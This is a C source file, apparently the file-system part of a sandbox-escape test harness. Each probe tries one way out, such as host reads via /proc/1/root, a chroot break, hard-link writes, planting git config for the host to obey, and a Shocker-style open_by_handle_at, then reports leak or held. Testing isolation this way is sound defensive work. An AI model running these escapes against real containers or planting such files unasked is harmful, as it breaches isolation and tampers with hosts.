/* SPDX-License-Identifier: Apache-2.0 */
/* Files of the host, of guarded projects, and what is left behind for the host to meet. */
#include "attack.h"

#include <dirent.h>
#include <ftw.h>
#include <signal.h>
#include <sys/resource.h>
#include <sys/xattr.h>

static void print_file(const char *path)
{
    char block[4096];
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    ssize_t n = fd < 0 ? -1 : read(fd, block, sizeof(block));
    if (n > 0)
        (void)!write(1, block, (size_t)n);
    if (fd >= 0)
        close(fd);
}

/* roads PATH: every way to a file of the host: the path itself, through /proc, through descriptors, by climbing. */
static void roads(int argc, char **argv)
{
    static const char *const before[] = {
        "",         "/..",       "/../../..", "/proc/self/root", "/proc/1/root", "/proc/1/cwd",        "/proc/thread-self/root",
        "/oldroot", "/old_root", "/host",     "/.pivot_root",    "/mnt",         "/proc/1/task/1/root"};
    const char *path = word(argc, argv, 1);
    char full[1024];
    for (size_t i = 0; i < sizeof(before) / sizeof(before[0]); i++) {
        snprintf(full, sizeof(full), "%s%s", before[i], path);
        print_file(full);
    }
    for (int fd = 0; fd < 64; fd++) {
        snprintf(full, sizeof(full), "/proc/self/fd/%d/../../../../../../..%s", fd, path);
        print_file(full);
        snprintf(full, sizeof(full), "/proc/1/fd/%d%s", fd, path);
        print_file(full);
    }
    snprintf(full, sizeof(full), "../../../../../../../../../..%s", path);
    print_file(full);
    dprintf(1, "\n");
    tried();
}

/* climb PATH: chroot with a working folder outside of it, then upwards, as one leaves a bare chroot. */
static void climb(int argc, char **argv)
{
    const char *path = word(argc, argv, 1);
    char full[1024];
    mkdir("/tmp/m", 0755);
    if (CALL(__NR_chroot, "/tmp/m") == 0)
        for (int i = 0; i < 64; i++)
            (void)!chdir("..");
    (void)!CALL(__NR_chroot, ".");
    snprintf(full, sizeof(full), "%s", path);
    print_file(full);
    print_file(full + 1);
    dprintf(1, "\n");
    tried();
}

/* cwd: prints where we are and what lies above. */
static void cwd(int argc, char **argv)
{
    char full[1024], here[1024];
    const char *path = word(argc, argv, 1);
    if (CALL(__NR_getcwd, here, sizeof(here)) > 0 && here[0] != '/')
        dprintf(1, "LEAK we are at %s\n", here);
    for (int up = 0; up < 12; up++) {
        size_t n = 0;
        for (int i = 0; i < up; i++)
            n += (size_t)snprintf(full + n, sizeof(full) - n, "../");
        snprintf(full + n, sizeof(full) - n, "%s", path + 1);
        print_file(full);
    }
    dprintf(1, "\n");
    tried();
}

/* write PATH TEXT: overwrites, makes, cuts, removes and renames, whichever is let through. */
static void write_file(int argc, char **argv)
{
    const char *path = word(argc, argv, 1), *text = argc > 2 ? argv[2] : "evil";
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0)
        held("%s: %s", path, strerror(errno));
    if (write(fd, text, strlen(text)) < 0)
        held("%s: %s", path, strerror(errno));
    leak("%s was written", path);
}

/* make PATH: a file, a folder, a link in a place that is not ours. What is made is taken away again. */
static void make(int argc, char **argv)
{
    const char *dir = word(argc, argv, 1);
    char path[512];
    snprintf(path, sizeof(path), "%s/.plt-made-%d", dir, (int)getpid());
    int fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0600);
    if (fd >= 0 && unlink(path) == 0)
        leak("a file could be made in %s", dir);
    if (mkdir(path, 0700) == 0 && rmdir(path) == 0)
        leak("a folder could be made in %s", dir);
    if (symlink("x", path) == 0 && unlink(path) == 0)
        leak("a link could be made in %s", dir);
    held("%s: %s", dir, strerror(errno));
}

/* append PATH: opens a host's file that is given read-only for writing, by each way there is. */
static void reopen(int argc, char **argv)
{
    const char *path = word(argc, argv, 1);
    char again[64];
    if (open(path, O_WRONLY | O_APPEND) >= 0)
        leak("%s could be opened for writing", path);
    if (truncate(path, 0) == 0)
        leak("%s could be cut", path);
    if (chmod(path, 0777) == 0)
        leak("%s: its mode could be changed", path);
    if (setxattr(path, "user.plt", "x", 1, 0) == 0)
        leak("%s: an attribute could be set", path);
    int fd = open(path, O_RDONLY);
    snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
    if (fd >= 0 && open(again, O_RDWR) >= 0)
        leak("%s could be opened again for writing", path);
    held("%s: %s", path, strerror(errno));
}

static int forget(const char *path, const struct stat *st, int kind, struct FTW *at)
{
    (void)st, (void)kind, (void)at;
    remove(path);
    return 0;
}

/* obey NAME: everything that changes what the host would obey. The host looks afterwards. */
static void obey(int argc, char **argv)
{
    const char *name = word(argc, argv, 1);
    char top[256];
    snprintf(top, sizeof(top), "%.*s", (int)strcspn(name, "/"), name);
    int fd = open(name, O_WRONLY | O_TRUNC);
    if (fd >= 0)
        (void)!write(fd, "evil", 4);
    (void)!truncate(name, 0);
    chmod(name, 0777);
    fd = open("evil", O_WRONLY | O_CREAT, 0755);
    (void)!write(fd, "evil", 4);
    rename("evil", name);
    (void)!link(name, "hard");
    fd = open("hard", O_WRONLY | O_TRUNC);
    (void)!(fd >= 0 && write(fd, "evil", 4));
    CALL(__NR_renameat2, AT_FDCWD, "evil", AT_FDCWD, name, 2);
    symlink("/tmp", "link");
    rename("link", name);
    rename(name, "moved");
    rename(top, "moved");
    unlink(name);
    nftw(top, forget, 16, FTW_DEPTH | FTW_PHYS);
    tried();
}

/* Every folder above path. */
static void make_above(const char *path)
{
    char part[1024];
    for (const char *slash = strchr(path, '/'); slash; slash = strchr(slash + 1, '/')) {
        snprintf(part, sizeof(part), "%.*s", (int)(slash - path), path);
        mkdir(part, 0755);
    }
}

static void make_evil(const char *path)
{
    make_above(path);
    int fd = open(path, O_WRONLY | O_CREAT, 0755);
    (void)!(fd >= 0 && write(fd, "evil", 4));
    if (fd >= 0)
        close(fd);
}

/* plant HOW PATH: puts a name that the host would obey where there was none. The host looks afterwards. */
static void plant(int argc, char **argv)
{
    const char *how = word(argc, argv, 1), *path = word(argc, argv, 2);
    const char *last = strrchr(path, '/') ? strrchr(path, '/') + 1 : path;
    char other[1100];
    make_above(path);
    if (strcmp(how, "create") == 0) {
        make_evil(path);
    } else if (strcmp(how, "rename") == 0) {
        make_evil("evil");
        rename("evil", path);
    } else if (strcmp(how, "link") == 0) {
        make_evil("evil");
        (void)!link("evil", path);
    } else if (strcmp(how, "symlink") == 0) {
        (void)!symlink("/tmp", path);
    } else if (strcmp(how, "exchange") == 0) {
        make_evil("evil");
        CALL(__NR_renameat2, AT_FDCWD, "evil", AT_FDCWD, path, 2);
        rename("evil", path);
    } else if (strcmp(how, "through-link") == 0) {
        (void)!symlink(last, "road");
        make_evil("road");
        rename(last, path);
    } else if (strcmp(how, "arrive") == 0) {
        /* The folders above it under a name that nobody minds, then all at once. */
        char top[256];
        snprintf(top, sizeof(top), "%.*s", (int)strcspn(path, "/"), path);
        rename(top, "innocent");
        snprintf(other, sizeof(other), "innocent%s", path + strlen(top));
        make_evil(other);
        rename("innocent", top);
    } else if (strcmp(how, "bare") == 0) {
        /* path is DIR/config: a folder that git takes for a repository, whatever it is called. */
        static const char *const parts[] = {"objects/x", "refs/x", "HEAD"};
        make_evil(path);
        for (size_t i = 0; i < sizeof(parts) / sizeof(parts[0]); i++) {
            snprintf(other, sizeof(other), "%.*s%s", (int)(last - path), path, parts[i]);
            make_evil(other);
        }
    }
    tried();
}

/* devices: anything in /dev but the six, terminals and shared memory. */
static void devices(int argc, char **argv)
{
    static const char *const good[] = {"null", "zero",  "full",   "random", "urandom", "tty", "ptmx",    "pts",  "shm",
                                       "fd",   "stdin", "stdout", "stderr", ".",       "..",  "console", "core", "mqueue"};
    DIR *d = opendir("/dev");
    const struct dirent *en;
    (void)argc;
    while (d && (en = readdir(d))) {
        bool known = false;
        for (size_t i = 0; i < sizeof(good) / sizeof(good[0]); i++)
            known |= strcmp(en->d_name, good[i]) == 0;
        if (!known)
            leak("%s: there is /dev/%s", argv[0], en->d_name);
    }
    held("six devices");
}

/* device PATH: is it there? */
static void device(int argc, char **argv)
{
    struct stat st;
    const char *path = word(argc, argv, 1);
    if (stat(path, &st) == 0 && (S_ISCHR(st.st_mode) || S_ISBLK(st.st_mode)))
        leak("%s is there", path);
    held("%s: %s", path, strerror(errno));
}

/* whiteout PATH: a character device 0:0, which hides a file from a later overlay. */
static void whiteout(int argc, char **argv)
{
    const char *path = word(argc, argv, 1);
    struct stat st;
    long made = CALL(__NR_mknodat, AT_FDCWD, path, S_IFCHR | 0600, 0);
    if (made == 0 && lstat(path, &st) < 0)
        held("mknod was answered, and made nothing");
    judge_any("mknod", made);
}

/* handle PATH: a handle, and a file by it. */
static void handle(int argc, char **argv)
{
    struct {
        unsigned bytes;
        int type;
        char data[128];
    } h = {.bytes = sizeof(h.data)};
    int id;
    judge_any("name_to_handle_at", CALL(__NR_name_to_handle_at, AT_FDCWD, word(argc, argv, 1), &h, &id, 0));
}

/* root-handle: the root folder of the file system below us, by its number, as the Shocker did. */
static void root_handle(int argc, char **argv)
{
    struct {
        unsigned bytes;
        int type;
        unsigned data[2];
    } h = {8, 1, {2, 0}};
    int at = open(word(argc, argv, 1), O_RDONLY | O_DIRECTORY);
    static const int refusals[] = {EPERM, ENOSYS, 0};
    judge("open_by_handle_at", CALL(__NR_open_by_handle_at, at, &h, O_RDONLY), refusals);
}

/* crash: with whatever the limit lets be dumped. */
static void crash(int argc, char **argv)
{
    struct rlimit lim;
    (void)argc, (void)argv;
    if (argc > 1 && chdir(argv[1]) < 0)
        broken("chdir: %s", strerror(errno));
    getrlimit(RLIMIT_CORE, &lim);
    lim.rlim_cur = lim.rlim_max;
    setrlimit(RLIMIT_CORE, &lim);
    dprintf(1, "TRIED\n");
    raise(SIGSEGV);
    _exit(0);
}

/* open-fds: descriptors beyond the standard three. */
static void open_fds(int argc, char **argv)
{
    (void)argc;
    for (int fd = 3; fd < 4096; fd++)
        if (fcntl(fd, F_GETFD) >= 0) {
            char path[64], to[256];
            snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
            ssize_t n = readlink(path, to, sizeof(to) - 1);
            leak("%s: %d is %.*s", argv[0], fd, (int)(n > 0 ? n : 0), to);
        }
    held("three descriptors");
}

/* stdio-path: does a standard descriptor lead to a file of the host? */
static void stdio_path(int argc, char **argv)
{
    (void)argc;
    for (int fd = 0; fd < 3; fd++) {
        struct stat st;
        if (fstat(fd, &st) == 0 && S_ISREG(st.st_mode))
            leak("%s: %d is a file", argv[0], fd);
    }
    held("no file among them");
}

/* spell: prints the environment, for the judge outside. */
static void environment(int argc, char **argv)
{
    (void)argc, (void)argv;
    extern char **environ;
    for (char **e = environ; *e; e++)
        puts(*e);
    tried();
}

/* sockets-below FOLDER …: any socket file in sight. */
static int found_socket(const char *path, const struct stat *st, int kind, struct FTW *at)
{
    (void)kind, (void)at;
    if (S_ISSOCK(st->st_mode))
        leak("there is a socket: %s", path);
    return 0;
}

static void sockets_below(int argc, char **argv)
{
    for (int i = 1; i < argc; i++)
        nftw(argv[i], found_socket, 16, FTW_PHYS | FTW_MOUNT);
    held("no socket below %s", word(argc, argv, 1));
}

/* say TEXT: the box should never have run. */
static void say(int argc, char **argv)
{
    leak("%s", word(argc, argv, 1));
}

/* exists PATH */
static void exists(int argc, char **argv)
{
    struct stat st;
    const char *path = word(argc, argv, 1);
    if (lstat(path, &st) == 0)
        leak("%s is there", path);
    held("%s: %s", path, strerror(errno));
}

/* overlay-xattr PATH NAME VALUE: a control attribute of an overlay, left on a new file; whether it means anything is seen outside. */
static void overlay_xattr(int argc, char **argv)
{
    const char *path = word(argc, argv, 1), *value = word(argc, argv, 3);
    int fd = open(path, O_WRONLY | O_CREAT, 0644);
    if (fd < 0)
        broken("%s: %s", path, strerror(errno));
    if (fsetxattr(fd, word(argc, argv, 2), value, strlen(value), 0) < 0)
        printf("%s: %s\n", argv[2], strerror(errno));
    tried();
}

/* hard-link FROM TO: a second name for a file of the host, through which it is written. */
static void hard_link(int argc, char **argv)
{
    const char *from = word(argc, argv, 1), *to = word(argc, argv, 2);
    int fd = link(from, to) < 0 ? -1 : open(to, O_WRONLY | O_TRUNC);
    if (fd < 0)
        held("%s: %s", to, strerror(errno));
    leak("%s is %s, and %s", to, from, write(fd, "evil", 4) == 4 ? "was written" : "was emptied");
}

const struct attack file_attacks[] = {
    {"roads", roads},
    {"climb", climb},
    {"cwd", cwd},
    {"write", write_file},
    {"make", make},
    {"reopen", reopen},
    {"obey", obey},
    {"plant", plant},
    {"devices", devices},
    {"device", device},
    {"whiteout", whiteout},
    {"handle", handle},
    {"root-handle", root_handle},
    {"crash", crash},
    {"open-fds", open_fds},
    {"stdio-path", stdio_path},
    {"environment", environment},
    {"sockets-below", sockets_below},
    {"say", say},
    {"exists", exists},
    {"overlay-xattr", overlay_xattr},
    {"hard-link", hard_link},
    {0},
};
